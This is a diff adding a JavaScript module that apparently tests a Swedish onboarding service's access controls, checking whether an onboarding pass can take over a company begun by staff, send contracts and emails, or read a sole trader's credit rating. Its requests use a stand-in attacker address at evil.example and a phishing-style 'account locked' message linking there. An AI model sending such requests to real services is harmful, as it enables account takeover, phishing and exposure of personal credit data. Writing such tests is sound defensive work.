@@ -1,0 +1,99 @@
+// The light onboarding: what somebody reaches who has its access code, which employers share.
+import { as, bodyOf, mailTo } from './people.mjs';
+import { newCompany, registeredNumber } from './scene.mjs';
+
+// A company of the stand-in register that nobody else in the attack uses.
+const BEGUN_BY_STAFF = registeredNumber(107);
+const SOLE_TRADER = '540110-9565';
+
+/** Returns a pass of the light onboarding, or null. */
+export async function passFrom(target, headers) {
+  const answer = await as(target, null, headers)('POST', '/api/light-onboarding/pass', {
+    code: target.accessCode,
+  });
+  return bodyOf(answer).pass ?? null;
+}
+
+/** [H5] A company that staff have begun, asked for with a pass. */
+async function takeOver(target, pass) {
+  const admin = as(target, target.tokens.admin);
+  const { id, number } = await newCompany(target, { number: BEGUN_BY_STAFF, name: 'Påbörjade Bolaget AB' });
+  const facts = async () => {
+    const { contactPerson, email, version, contractId } = bodyOf(
+      await admin('GET', `/api/companies/${id}`),
+    ).data;
+    return JSON.stringify({ contactPerson, email, version, contractId });
+  };
+  const before = await facts();
+  const address = 'mallory@evil.example';
+  await pass('POST', '/api/light-onboarding/contract', {
+    companyNumber: number,
+    contactPerson: 'Mallory M',
+    contactEmail: address,
+  });
+  const after = await facts();
+  return [
+    before !== after && {
+      where: 'POST /api/light-onboarding/contract',
+      what: `[H5] changes a company that staff began: ${before} became ${after}`,
+    },
+    (await mailTo(target, address, undefined, 1_500)) && {
+      where: 'POST /api/light-onboarding/contract',
+      what: '[H5] mails a stranger about a company that staff began',
+    },
+  ];
+}
+
+/** [M1] What a pass must not open: contracts and mails of the caller's own making, and credit data of a person. */
+async function beyondTheForm(target, pass) {
+  const found = [];
+  const party = {
+    type: 'company',
+    country_code: 'SE',
+    identification_number: registeredNumber(108),
+    name: 'Mallory AB',
+    participants: [
+      { name: 'Mallory M', email: 'mallory@evil.example', signatory: true, delivery_channel: 'email' },
+    ],
+  };
+  const calls = {
+    oneflow_createcontract3: { company_id: target.scene.ids.company, name: 'Avtal', parties: [party] },
+    oneflow_sendcontract: {
+      contract_id: 1,
+      subject: 'Ditt konto ar sparrat',
+      message: 'http://evil.example',
+    },
+    'send-email': {
+      type: 'contract-notification',
+      companyName: 'Mallory AB',
+      orgNumber: registeredNumber(108),
+      contactName: 'Mallory M',
+      contactEmail: 'mallory@evil.example',
+      contractName: 'Avtal',
+      creditRating: { rating: 99, ratingText: 'AAA' },
+    },
+  };
+  for (const [name, body] of Object.entries(calls)) {
+    const { status } = await pass('POST', `/functions/v1/${name}`, body);
+    if (status !== 401 && status !== 403)
+      found.push({ where: `POST /functions/v1/${name} with a pass`, what: `[M1] answers ${status}` });
+  }
+  const grant = bodyOf(await pass('POST', '/functions/v1/roaring-auth', {}));
+  const rating = await pass('POST', '/functions/v1/company-rating', {
+    companyId: SOLE_TRADER,
+    accessToken: grant.access_token,
+  });
+  if (rating.status === 200 && /"rating":\s*\d/.test(rating.text))
+    found.push({ where: 'company-rating with a pass', what: '[M1] tells the rating of a sole trader' });
+  return found;
+}
+
+/** Attacks the light onboarding with a pass. */
+export async function tryOnboarding(target) {
+  const pass = await passFrom(target);
+  if (!pass)
+    return { tried: 0, found: [{ where: 'light onboarding', what: 'was not tried: no pass was given' }] };
+  const withPass = as(target, null, { 'x-access-pass': pass });
+  const found = [...(await takeOver(target, withPass)), ...(await beyondTheForm(target, withPass))];
+  return { tried: 5, found: found.filter(Boolean) };
+}
